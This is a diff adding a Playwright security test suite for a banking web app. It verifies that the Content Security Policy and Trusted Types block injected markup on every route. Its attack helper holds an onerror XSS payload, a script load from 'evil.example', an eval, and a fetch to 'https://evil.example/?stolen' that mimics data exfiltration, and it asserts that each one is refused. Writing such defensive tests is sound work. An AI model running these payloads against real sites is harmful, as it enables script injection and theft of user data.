@@ -1,0 +1,141 @@
+import { readFileSync } from "node:fs"
+import type { Page } from "@playwright/test"
+import { deposit, expect, showTheme, test } from "./fixtures.ts"
+import { fillTransfer, outsideIban } from "./transfer-page.ts"
+
+/** Every path of the app's table, read from it, so that no new page is forgotten here. */
+const paths = [
+  ...readFileSync("client/routes.tsx", "utf8").matchAll(/^ {2}"(\/[^"]*)": page\(/gm),
+].map(([, path]) => String(path))
+const plainPages = ["/api/docs", "/docs/error-codes", "/nowhere"]
+
+/** Each page in both themes: the fixtures fail on whatever the browser refuses, and on foreign hosts. */
+async function visit(page: Page, path: string): Promise<void> {
+  await page.goto(path)
+  await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible()
+  if (path.includes("docs")) return
+  for (const theme of ["dark", "light"] as const) await showTheme(page, theme)
+}
+
+test("every page lives inside the walls, signed out (ASVS 3.4.3, 3.4.7, 3.6.1)", async ({
+  page,
+}) => {
+  test.setTimeout(120_000)
+  for (const path of [...paths, "/login", ...plainPages]) await visit(page, path)
+})
+
+test("every page lives inside the walls, signed in (ASVS 3.4.3, 3.4.7, 3.6.1)", async ({
+  page,
+  context,
+  customer,
+}) => {
+  test.setTimeout(120_000)
+  expect(customer.username).not.toBe("")
+  await deposit(context, "EUR", "500.00")
+  for (const path of [...paths, ...plainPages]) await visit(page, path)
+})
+
+test("a dialog, a menu, a tooltip, a picker and a toast open without an inline style or script", async ({
+  page,
+  context,
+  customer,
+}) => {
+  expect(customer.username).not.toBe("")
+  await deposit(context, "EUR", "500.00")
+  await page.goto("/")
+  await page.getByRole("button", { name: /^My Account/ }).click()
+  await expect(page.getByRole("menuitem", { name: "Profile Settings" })).toBeVisible()
+  await page.keyboard.press("Escape")
+  await page.getByRole("button", { name: "About the balances" }).click()
+  await expect(page.getByRole("tooltip")).toBeVisible()
+  await page.keyboard.press("Escape")
+  await page.getByRole("button", { name: "Currency Exchange" }).click()
+  const dialog = page.getByRole("dialog", { name: "Currency Exchange" })
+  await dialog.getByLabel("Amount").fill("10")
+  await dialog.getByRole("button", { name: /^Exchange €/ }).click()
+  await expect(page.getByRole("heading", { name: "Currency Exchange Successful" })).toBeVisible()
+  await page.goto("/transfer")
+  await page.getByRole("combobox", { name: "From account" }).click()
+  await expect(page.getByRole("option").first()).toBeVisible()
+  await page.keyboard.press("Escape")
+  await fillTransfer(page, { amount: "1", iban: outsideIban, name: "Jonas Keller" })
+  await page.goto("/help-center")
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
+})
+
+/** What the browser must refuse, by the directive that it names. */
+const refusals = [
+  ...["connect-src", "frame-src", "img-src", "require-trusted-types-for"],
+  ...["style-src-attr", "style-src-elem", "trusted-types"],
+]
+
+/** Tries what injected markup would, and waits until the browser has told of each refusal. */
+async function attack(page: Page) {
+  return page.evaluate(async (expected) => {
+    const refused = new Set<string>()
+    const allTold = new Promise<void>((resolve) => {
+      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+        refused.add(effectiveDirective)
+        if (expected.every((directive) => refused.has(directive))) resolve()
+      })
+    })
+    const risen: string[] = []
+    const attempt = (what: string, deed: () => void) => {
+      try {
+        deed()
+      } catch (error) {
+        risen.push(`${what}: ${(error as Error).name}`)
+      }
+    }
+    const spot = document.body.appendChild(document.createElement("div"))
+    attempt("innerHTML", () => {
+      spot.innerHTML = "<img src=x onerror='globalThis.owned = 1'>"
+    })
+    attempt("policy", () => {
+      const { trustedTypes } = globalThis as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown }
+      }
+      trustedTypes.createPolicy("default", { createHTML: (text: string) => text })
+    })
+    attempt("script.src", () => {
+      document.createElement("script").src = "https://evil.example/x.js"
+    })
+    const style = document.createElement("style")
+    style.append("body { color: red }")
+    const picture = document.createElement("img")
+    picture.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
+    const frame = document.createElement("iframe")
+    frame.src = "/login"
+    spot.append(style, picture, frame)
+    spot.setAttribute("style", "color: red")
+    // What a test evaluates may itself evaluate; a later task of the page may not.
+    await new Promise<void>((done) => {
+      setTimeout(() => {
+        attempt("eval", () => void (0, eval)("globalThis.owned = 1"))
+        done()
+      })
+    })
+    await fetch("https://evil.example/?stolen").catch(() => risen.push("fetch"))
+    await allTold
+    return { risen, owned: "owned" in globalThis }
+  }, refusals)
+}
+
+test("what injected markup would try is refused (ASVS 3.4.3, 1.2.1)", async ({
+  page,
+  complaints,
+}) => {
+  await page.goto("/login")
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible()
+  const { risen, owned } = await attack(page)
+  expect(owned).toBe(false)
+  expect(risen).toEqual([
+    "innerHTML: TypeError",
+    "policy: TypeError",
+    "script.src: TypeError",
+    "eval: EvalError",
+    "fetch",
+  ])
+  // They were asked for.
+  complaints.length = 0
+})
